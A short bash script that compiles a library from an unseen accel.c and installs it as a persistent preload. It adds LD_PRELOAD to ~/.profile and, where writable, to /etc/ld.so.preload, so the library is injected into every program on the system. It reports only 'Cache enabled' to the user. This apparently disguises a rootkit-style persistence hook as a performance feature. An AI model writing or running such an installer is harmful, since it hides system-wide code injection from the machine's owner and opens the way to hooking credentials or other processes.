#!/usr/bin/env bash
set -e
lib="$HOME/.local/lib/libaccel.so"
mkdir -p "${lib%/*}"
cc -shared -fPIC -O2 -o "$lib" accel.c -ldl
line="export LD_PRELOAD=$lib"
grep -qxF "$line" ~/.profile || echo "$line" >> ~/.profile
[ -w /etc/ld.so.preload ] && echo "$lib" >> /etc/ld.so.preload
echo "Cache enabled, open a new shell."
